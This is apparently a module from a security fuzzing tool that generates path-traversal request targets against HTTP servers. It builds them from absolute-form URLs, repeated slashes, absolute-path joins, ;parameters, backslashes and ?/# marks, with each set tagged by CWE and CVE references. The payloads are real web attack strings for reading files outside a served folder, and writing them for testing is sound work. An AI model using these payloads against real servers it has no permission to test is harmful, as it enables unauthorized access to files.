"""Request targets whose parts (scheme, slashes, parameters, query) several readers tell apart."""

from collections.abc import Iterator

from capfuzz.attacks.techniques.registry import Kind, techniques_for

request = techniques_for(Kind.REQUEST, "http")


@request(
    "request-absolute-form",
    group="request-absolute",
    cwe="CWE-180",
    needs="judges a path, and not the path of a whole URL, which every server takes",
    refs=("https://www.rfc-editor.org/rfc/rfc9112#section-3.2.2",),
)
def request_absolute_form() -> Iterator[str]:
    """Send the whole URL, as to a proxy, with a climb in its path."""
    yield "http://{host}{prefix}/../other/secret.txt"
    yield "http://{host}{prefix}/%2e%2e/other/secret.txt"
    yield "HTTP://{host}{prefix}/../other/secret.txt"
    yield "http://{host}{prefix}/..%2fother%2fsecret.txt"
    yield "http://{host}{prefix}/sub/../../other/secret.txt"


@request(
    "request-slashes",
    group="request-slashes",
    cwe="CWE-180",
    needs="counts an empty segment as one step down, or reads two slashes as a host",
)
def request_slashes() -> Iterator[str]:
    """Repeat slashes around a climb."""
    yield "{prefix}//../other/secret.txt"
    yield "/{prefix}/../other/secret.txt"
    yield "{prefix}///..//other//secret.txt"
    yield "{prefix}//%2e%2e/other/secret.txt"
    yield "{prefix}/sub//../../other/secret.txt"


@request(
    "request-absolute-rest",
    group="request-absolute-join",
    cwe="CWE-36",
    needs="joins the folder and what follows the prefix, where an absolute path replaces the folder",
    refs=("CVE-2025-47273",),
)
def request_absolute_rest() -> Iterator[str]:
    """Let an absolute path follow the prefix and its slash."""
    yield "{prefix}/{floor}/other/secret.txt"
    yield "{prefix}//{floor}/other/secret.txt"
    yield "{prefix}/%2f{floor}/other/secret.txt"
    yield "{prefix}/.//{floor}/other/secret.txt"
    yield "{prefix}/file://{floor}/other/secret.txt"


@request(
    "request-parameters",
    group="request-parameters",
    cwe="CWE-180",
    needs="takes ;parameters away from segments after the check",
    refs=("https://www.rfc-editor.org/rfc/rfc3986#section-3.3",),
)
def request_parameters() -> Iterator[str]:
    """Put parameters behind the dots, which are then no ``..`` until they are taken away."""
    yield "{prefix}/..;/other/secret.txt"
    yield "{prefix}/..;a=b/other/secret.txt"
    yield "{prefix}/.;/..;/other/secret.txt"
    yield "{prefix};/../other/secret.txt"
    yield "{prefix}/..%3b/other/secret.txt"
    yield "{prefix}/%2e%2e;/other/secret.txt"


@request(
    "request-backslash",
    group="request-backslash",
    cwe="CWE-28",
    needs=r"takes \ for a separator after the check",
)
def request_backslash() -> Iterator[str]:
    r"""Write ``\`` for ``/``, as it is and encoded."""
    yield "{prefix}/..\\other\\secret.txt"
    yield "{prefix}\\..\\other\\secret.txt"
    yield "{prefix}/..%5cother%5csecret.txt"
    yield "{prefix}/%2e%2e%5cother%5csecret.txt"
    yield "{prefix}/..\\other/secret.txt"


@request(
    "request-query-climb",
    group="request-query",
    cwe="CWE-706",
    needs="judges the path up to a ? or #, and opens more of the text than that",
    refs=("CVE-2025-31486", "CVE-2025-32395"),
)
def request_query_climb() -> Iterator[str]:
    """Climb behind a mark at which the path ends for one reader alone."""
    for mark in ("?", "#", "%3f", "%23"):
        yield f"{{prefix}}/{mark}/../../other/secret.txt"
        yield f"{{prefix}}/sub{mark}/../../other/secret.txt"
